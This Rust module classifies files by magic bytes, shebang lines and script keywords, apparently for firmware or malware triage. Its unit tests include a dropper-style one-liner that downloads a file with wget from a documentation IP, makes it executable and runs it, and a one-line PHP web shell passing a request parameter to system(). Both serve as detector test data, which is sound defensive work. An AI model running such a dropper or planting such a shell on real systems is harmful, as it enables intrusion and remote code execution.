//! What a file is, by its first bytes and, for text, by its words.

use crate::container::Format;
use crate::elf;

/// Bytes of a text that are looked at.
const TEXT_LOOK_BYTES: usize = 64 << 10;

/// What a file is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) struct Kind {
    /// A word for programs.
    pub(crate) slug: &'static str,
    /// Words for people.
    pub(crate) description: &'static str,
    /// How it is unpacked, if it can be.
    pub(crate) format: Option<Format>,
}

impl Kind {
    const fn named(slug: &'static str, description: &'static str) -> Self {
        Self { slug, description, format: None }
    }

    const fn container(slug: &'static str, description: &'static str, format: Format) -> Self {
        Self { slug, description, format: Some(format) }
    }
}

/// Files that begin in a certain way.
const MAGICS: &[(&[u8], Kind)] = &[
    (elf::MAGIC, Kind::named("elf", "ELF file")),
    (b"\x1f\x8b", Kind::container("gzip", "compressed with gzip", Format::Gzip)),
    (b"\xfd7zXZ\0", Kind::container("xz", "compressed with XZ", Format::Xz)),
    (b"BZh", Kind::container("bzip2", "compressed with bzip2", Format::Bzip2)),
    (b"PK\x03\x04", Kind::container("zip", "ZIP archive", Format::Zip)),
    (b"PK\x05\x06", Kind::container("zip", "empty ZIP archive", Format::Zip)),
    (b"!<arch>\n", Kind::container("ar", "archive of ar, or Debian package", Format::Ar)),
    (b"070701", Kind::container("cpio", "cpio archive (newc)", Format::CpioNew)),
    (b"070702", Kind::container("cpio", "cpio archive (newc with check sums)", Format::CpioNew)),
    (b"070707", Kind::container("cpio", "cpio archive (odc)", Format::CpioOld)),
    (b"hsqs", Kind::container("squashfs", "file system squashfs", Format::Squashfs)),
    (b"sqsh", Kind::named("squashfs-big-endian", "file system squashfs of an old version, big-endian")),
    (b"shsq", Kind::named("squashfs-vendor", "file system squashfs with a vendor's LZMA")),
    (b"\x27\x05\x19\x56", Kind::container("uimage", "firmware image of U-Boot (uImage)", Format::UImage)),
    (b"HDR0", Kind::container("trx", "firmware image TRX", Format::Trx)),
    (b"\xd0\x0d\xfe\xed", Kind::named("device-tree", "device tree or FIT image")),
    (b"UBI#", Kind::named("ubi", "flash image UBI")),
    (b"\x31\x18\x10\x06", Kind::named("ubifs", "file system UBIFS")),
    (b"\x85\x19", Kind::named("jffs2", "file system JFFS2, little-endian")),
    (b"\x19\x85", Kind::named("jffs2", "file system JFFS2, big-endian")),
    (b"-rom1fs-", Kind::named("romfs", "file system romfs")),
    (b"\x45\x3d\xcd\x28", Kind::named("cramfs", "file system cramfs, little-endian")),
    (b"\x28\xcd\x3d\x45", Kind::named("cramfs", "file system cramfs, big-endian")),
    (b"ANDROID!", Kind::named("android-boot", "boot image of Android")),
    (b"dex\n", Kind::named("dex", "program for Android's virtual machine")),
    (b"\xcf\xfa\xed\xfe", Kind::named("mach-o", "program for macOS or iOS")),
    (b"\xce\xfa\xed\xfe", Kind::named("mach-o", "program for macOS or iOS")),
    (b"\xfe\xed\xfa\xcf", Kind::named("mach-o", "program for macOS or iOS")),
    (b"\xfe\xed\xfa\xce", Kind::named("mach-o", "program for macOS or iOS")),
    (b"\x28\xb5\x2f\xfd", Kind::named("zstd", "compressed with Zstandard")),
    (b"\x04\x22\x4d\x18", Kind::named("lz4", "compressed with LZ4")),
    (b"\x1f\x9d", Kind::named("compress", "compressed with compress")),
    (b"\x5d\0\0", Kind::named("lzma", "compressed with LZMA")),
    (b"7z\xbc\xaf\x27\x1c", Kind::named("7z", "7-Zip archive")),
    (b"Rar!\x1a\x07", Kind::named("rar", "RAR archive")),
    (b"\xed\xab\xee\xdb", Kind::named("rpm", "RPM package")),
    (b"%PDF-", Kind::named("pdf", "PDF document")),
    (b"\x89PNG\r\n", Kind::named("image", "PNG picture")),
    (b"\xff\xd8\xff", Kind::named("image", "JPEG picture")),
    (b"GIF8", Kind::named("image", "GIF picture")),
    (b"\x1bLua", Kind::named("lua-bytecode", "compiled Lua program")),
    (b"\0asm", Kind::named("wasm", "WebAssembly program")),
    (b"\xd4\xc3\xb2\xa1", Kind::named("pcap", "recorded network traffic")),
    (b"\xa1\xb2\xc3\xd4", Kind::named("pcap", "recorded network traffic")),
    (b"SQLite format 3\0", Kind::named("sqlite", "SQLite database")),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", Kind::named("ole", "document of old Office, or Windows installer")),
];

/// Interpreters that a first line `#!` can name.
const INTERPRETERS: &[(&[u8], Kind)] = &[
    (b"python", Kind::named("script-python", "script for Python")),
    (b"perl", Kind::named("script-perl", "script for Perl")),
    (b"php", Kind::named("script-php", "script for PHP")),
    (b"lua", Kind::named("script-lua", "script for Lua")),
    (b"ruby", Kind::named("script-ruby", "script for Ruby")),
    (b"node", Kind::named("script-javascript", "script for Node.js")),
    (b"awk", Kind::named("script-awk", "script for awk")),
    (b"expect", Kind::named("script-expect", "script for expect")),
    (b"tclsh", Kind::named("script-tcl", "script for Tcl")),
    (b"sh", SHELL),
];

const SHELL: Kind = Kind::named("script-shell", "shell script");

/// Words of scripts without a first line, each at the beginning of a line: a script is what has two different ones.
const WORDS: &[(Kind, &[&[u8]])] = &[
    (Kind::named("script-php", "script for PHP"), &[b"<?php", b"<?="]),
    (
        SHELL,
        &[
            b"cd /",
            b"wget ",
            b"curl ",
            b"tftp ",
            b"ftpget ",
            b"chmod ",
            b"rm -",
            b"sh ",
            b"./",
            b"busybox ",
            b"/bin/busybox ",
            b"export ",
            b"if [ ",
            b"for ",
            b"echo ",
            b"killall ",
            b"pkill ",
            b"iptables ",
            b"mount ",
            b"cat ",
            b"cp ",
            b"mkdir ",
            b"nohup ",
            b"ulimit ",
            b"while ",
            b"done",
            b"fi",
            b"esac",
            b"case ",
            b"exit",
        ],
    ),
    (
        Kind::named("script-python", "script for Python"),
        &[b"import ", b"from ", b"def ", b"class ", b"print(", b"if __name__", b"try:", b"except"],
    ),
    (
        Kind::named("script-perl", "script for Perl"),
        &[b"use strict", b"use warnings", b"use IO::", b"my $", b"sub ", b"package "],
    ),
    (Kind::named("script-lua", "script for Lua"), &[b"local ", b"function ", b"require ", b"end"]),
];

/// Says what a file is.
pub(crate) fn kind(bytes: &[u8]) -> Kind {
    if bytes.is_empty() {
        return Kind::named("empty", "empty file");
    }
    if let Some((_, kind)) = MAGICS.iter().find(|(magic, _)| bytes.starts_with(magic)) {
        return *kind;
    }
    if bytes.starts_with(b"MZ") {
        return windows(bytes);
    }
    if bytes.starts_with(b"\xca\xfe\xba\xbe") {
        // Both begin alike; few programs for several processors have more than 30 of them, and classes have at least 45.
        let is_class = bytes.get(7).is_some_and(|version| *version >= 45);
        return if is_class {
            Kind::named("java", "compiled Java class")
        } else {
            Kind::named("mach-o", "program for macOS, for several processors")
        };
    }
    if crate::container::is_tar(bytes) {
        return Kind::container("tar", "tar archive", Format::Tar);
    }
    if let Some(line) = bytes.strip_prefix(b"#!") {
        return of_interpreter(line);
    }
    text(bytes).unwrap_or(Kind::named("data", "data of no known kind"))
}

/// The largest part of what a Windows program can be.
fn windows(bytes: &[u8]) -> Kind {
    let place = bytes.get(60..64).and_then(|place| place.try_into().ok()).map(u32::from_le_bytes);
    let head = place.and_then(|place| bytes.get(usize::try_from(place).ok()?..));
    if head.is_some_and(|head| head.starts_with(b"PE\0\0")) {
        Kind::named("pe", "program for Windows")
    } else {
        Kind::named("dos", "program for DOS, or a broken one for Windows")
    }
}

fn of_interpreter(line: &[u8]) -> Kind {
    let line = &line[..line.len().min(256)];
    let line = line.split(|byte| *byte == b'\n').next().unwrap_or_default();
    let words = line.split(|byte| byte.is_ascii_whitespace()).filter(|word| !word.is_empty());
    let mut names = words.map(|word| word.rsplit(|byte| *byte == b'/').next().unwrap_or(word));
    // `env` starts the program that is named next; what begins with a dash is an option of it.
    let name = names.find(|name| !matches!(name, &b"env" | &b"busybox") && !name.starts_with(b"-")).unwrap_or_default();
    let known = INTERPRETERS.iter().find(|(known, _)| {
        name.starts_with(known) || matches!(name, b"bash" | b"dash" | b"ash" | b"ksh" | b"zsh") && *known == b"sh"
    });
    known.map_or(Kind::named("script", "script for another interpreter"), |(_, kind)| *kind)
}

fn text(bytes: &[u8]) -> Option<Kind> {
    let look = &bytes[..bytes.len().min(TEXT_LOOK_BYTES)];
    let is_text_byte = |byte: &&u8| !matches!(byte, 0..=8 | 14..=26 | 28..=31 | 127);
    let printable = look.iter().filter(is_text_byte).count();
    // A script with an encoded part at its end is still one.
    if printable * 100 < look.len() * 95 || look.contains(&0) {
        return None;
    }
    let start = look.trim_ascii_start();
    let begins = |word: &[u8]| start.len() >= word.len() && start[..word.len()].eq_ignore_ascii_case(word);
    if begins(b"<!doctype html") || begins(b"<html") {
        return Some(Kind::named("html", "web page"));
    }
    if begins(b"<?xml") {
        return Some(Kind::named("xml", "XML document"));
    }
    for (kind, words) in WORDS {
        let mut seen = [false; 32];
        let needed = if kind.slug == "script-php" { 1 } else { 2 };
        // Commands of one line are separated, too.
        for line in look.split(|byte| matches!(byte, b'\n' | b'\r' | b';' | b'|' | b'&')) {
            let line = line.trim_ascii_start();
            for (number, word) in words.iter().enumerate() {
                seen[number] |= line.starts_with(word);
            }
        }
        if seen.iter().filter(|seen| **seen).count() >= needed {
            return Some(*kind);
        }
    }
    if begins(b"{") && look.trim_ascii_end().ends_with(b"}") || begins(b"[") && look.trim_ascii_end().ends_with(b"]") {
        return Some(Kind::named("json", "JSON document"));
    }
    Some(Kind::named("text", "text"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn files_are_named_by_their_contents() {
        let check = |bytes: &[u8], expected: &str| assert_eq!(kind(bytes).slug, expected, "{bytes:?}");
        check(b"", "empty");
        check(b"\x7fELF\x01\x01\x01", "elf");
        check(b"#!/bin/sh\necho", "script-shell");
        check(b"#!/usr/bin/env python3\n", "script-python");
        check(b"#!/usr/bin/env -S perl -w\n", "script-perl");
        check(b"#! /bin/busybox ash\n", "script-shell");
        check(b"#!/sbin/openrc-run\n", "script");
        check(b"cd /tmp || cd /var/run; wget http://192.0.2.1/a; chmod 777 a; ./a", "script-shell");
        check(b"<?php system($_GET['c']); ?>", "script-php");
        check(b"import socket\ndef main():\n  pass\n", "script-python");
        check(b"local a = require 'b'\nlocal c\nfunction d() end\nend", "script-lua");
        check(b"my $a = 1;\nsub b { }\n", "script-perl");
        check(b"  <!DOCTYPE HTML><p>", "html");
        check(b"{\"a\": 1}\n", "json");
        check(b"hello, world", "text");
        check(b"hello\0world", "data");
        check(b"\xca\xfe\xba\xbe\0\0\0\x34", "java");
        check(b"\xca\xfe\xba\xbe\0\0\0\x02", "mach-o");
        let mut windows = b"MZ".to_vec();
        windows.resize(64, 0);
        windows[60] = 64;
        windows.extend(b"PE\0\0");
        check(&windows, "pe");
        check(b"MZ", "dos");
        check(b"\x27\x05\x19\x56", "uimage");
    }
}
